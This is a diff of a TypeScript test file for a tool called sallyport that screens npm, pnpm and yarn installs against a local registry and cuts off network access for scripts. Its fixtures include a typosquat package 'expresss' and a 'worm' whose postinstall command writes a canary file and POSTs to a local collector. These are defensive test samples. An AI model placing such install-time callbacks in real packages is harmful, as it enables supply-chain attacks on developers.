@@ -40,28 +40,39 @@ async function publish(
 
 const verdaccio = installTool('verdaccio');
 
+interface Market {
+  readonly place: Place;
+  readonly registry: PrivateRegistry;
+  /** What packages send home. */
+  readonly collector: Awaited<ReturnType<typeof startWeb>>;
+  readonly env: Readonly<Record<string, string>>;
+}
+
+/** A registry that demands a token, with an honest package and three others, and a user whose package managers use it. */
+async function openMarket(program: string, tool: string | undefined): Promise<Market> {
+  const place = makeWorkspace();
+  const registry = await startRegistry(place, program);
+  const collector = await startWeb();
+  const worm = `node -e "require('fs').writeFileSync('${join(place.workspace, 'canary')}','');fetch('http://127.0.0.1:${collector.port}/',{method:'POST'})"`;
+  await publish(place, registry, { name: 'quite-an-honest-answer' });
+  await publish(place, registry, { name: 'expresss' });
+  await publish(place, registry, { name: 'quite-a-fresh-answer', isFresh: true });
+  await publish(place, registry, { name: 'quite-a-worm-inside', scripts: { postinstall: worm } });
+  const path = [...(tool === undefined ? [] : [join(tool, 'node_modules/.bin')]), dirname(process.execPath), place.env['PATH']];
+  const env = { ...place.env, PATH: path.join(':'), NPM_TOKEN: registry.token };
+  const address = `//127.0.0.1:${registry.port}/`;
+  writeFileSync(join(place.home, '.npmrc'), `registry=http:${address}\n${address}:_authToken=\${NPM_TOKEN}\nalways-auth=true\n`);
+  const secret = ['secret', 'add', 'npm', '--from-env', 'NPM_TOKEN', '--host', `127.0.0.1:${registry.port}`];
+  expect((await sallyport(place, [...secret, '--header', 'authorization', '--phase', 'setup'], { env })).code).toBe(0);
+  return { place, registry, collector, env };
+}
+
 test.skipIf(verdaccio === undefined).each(['npm', 'pnpm', 'yarn'] as const)(
   '%s installs the honest package, and neither the look-alike, nor the fresh one, nor the worm, nor one that is not there',
   async (name) => {
     const tool = name === 'npm' ? undefined : installTool(name);
     if (verdaccio === undefined || (name !== 'npm' && tool === undefined)) return;
-    const place = makeWorkspace();
-    const registry = await startRegistry(place, verdaccio);
-    const collector = await startWeb();
-    const worm = `node -e "require('fs').writeFileSync('${join(place.workspace, 'canary')}','');fetch('http://127.0.0.1:${collector.port}/',{method:'POST'})"`;
-    await publish(place, registry, { name: 'quite-an-honest-answer' });
-    await publish(place, registry, { name: 'expresss' });
-    await publish(place, registry, { name: 'quite-a-fresh-answer', isFresh: true });
-    await publish(place, registry, { name: 'quite-a-worm-inside', scripts: { postinstall: worm } });
-    const path = [...(tool === undefined ? [] : [join(tool, 'node_modules/.bin')]), dirname(process.execPath), place.env['PATH']];
-    const env = { ...place.env, PATH: path.join(':'), NPM_TOKEN: registry.token };
-    const address = `//127.0.0.1:${registry.port}/`;
-    writeFileSync(
-      join(place.home, '.npmrc'),
-      `registry=http:${address}\n${address}:_authToken=\${NPM_TOKEN}\nalways-auth=true\n`,
-    );
-    const secret = ['secret', 'add', 'npm', '--from-env', 'NPM_TOKEN', '--host', `127.0.0.1:${registry.port}`];
-    expect((await sallyport(place, [...secret, '--header', 'authorization', '--phase', 'setup'], { env })).code).toBe(0);
+    const { place, registry, collector, env } = await openMarket(verdaccio, tool);
     const policy = join(place.root, 'policy.yaml');
     const install = { npm: 'npm install --no-audit --no-fund', pnpm: 'pnpm install', yarn: 'yarn install' }[name];
     writeFileSync(policy, `version: 1\nphases: {setup: {run: ['${install}'], secrets: [npm]}}\n`);
@@ -80,6 +91,42 @@ test.skipIf(verdaccio === undefined).each(['npm', 'pnpm', 'yarn'] as const)(
     expect(await attempt('quite-a-worm-inside')).toMatch(/^126 0 false [\s\S]*runs a script of its own when it is installed/);
     expect(await attempt('quite-an-invented-name')).toMatch(/^126 0 false [\s\S]*does not exist/);
     expect(await attempt('quite-an-honest-answer')).toMatch(/^0 1 true /);
+    expect(collector.seen).toEqual([]);
+  },
+);
+
+test.skipIf(verdaccio === undefined).each(['npm', 'pnpm', 'yarn'] as const)(
+  'sallyport %s judges what is named, installs what is honest, and runs all else without a network',
+  async (name) => {
+    const tool = name === 'npm' ? undefined : installTool(name);
+    if (verdaccio === undefined || (name !== 'npm' && tool === undefined)) return;
+    const { place, registry, collector, env } = await openMarket(verdaccio, tool);
+    mkdirSync(join(place.home, '.config/sallyport'), { recursive: true });
+    const read = tool === undefined ? '' : `files: {read: [${tool}]}\n`;
+    writeFileSync(join(place.home, '.config/sallyport/policy.yaml'), `version: 1\n${read}phases: {setup: {secrets: [npm]}}\n`);
+    const look = `require("net").connect(${registry.port}, "127.0.0.1").on("error", (e) => { console.log(e.code); process.exit(7); })`;
+    writeFileSync(join(place.workspace, 'look.js'), look);
+    const manifest = { name: 'w', version: '1.0.0', private: true, scripts: { look: 'node look.js' } };
+    writeFileSync(join(place.workspace, 'package.json'), JSON.stringify(manifest));
+    const add = name === 'npm' ? ['install', '--no-audit', '--no-fund', '--save-exact'] : ['add'];
+    const attempt = async (dependency: string): Promise<string> => {
+      registry.takeDownloads();
+      const { code, stderr } = await sallyport(place, [name, ...add, `${dependency}@1.0.0`], { env });
+      return `${code} ${registry.takeDownloads().length} ${existsSync(join(place.workspace, 'node_modules', dependency))} ${stderr}`;
+    };
+
+    expect(await attempt('expresss')).toMatch(/^126 0 false [\s\S]*could be taken for the popular express/);
+    expect(await attempt('quite-a-fresh-answer')).toMatch(/^126 0 false [\s\S]*published 0 hours ago/);
+    expect(await attempt('quite-a-worm-inside')).toMatch(/^126 0 false [\s\S]*runs a script of its own when it is installed/);
+    expect(await attempt('quite-an-invented-name')).toMatch(/^126 0 false [\s\S]*does not exist/);
+    expect(await attempt('quite-an-honest-answer')).toMatch(/^0 1 true /);
+    const elsewhere = await sallyport(place, [name, ...add, 'lodash', '--registry', 'http://192.0.2.7/'], { env });
+    expect(`${elsewhere.code} ${elsewhere.stderr}`).toMatch(/^126 [\s\S]*192\.0\.2\.7/);
+
+    const script = await sallyport(place, [name, 'run', 'look'], { env });
+    expect(script.stdout).toContain('ECONNREFUSED');
+    expect(script.code).toBe(7);
+    expect(existsSync(join(place.workspace, 'canary'))).toBe(false);
     expect(collector.seen).toEqual([]);
   },
 );
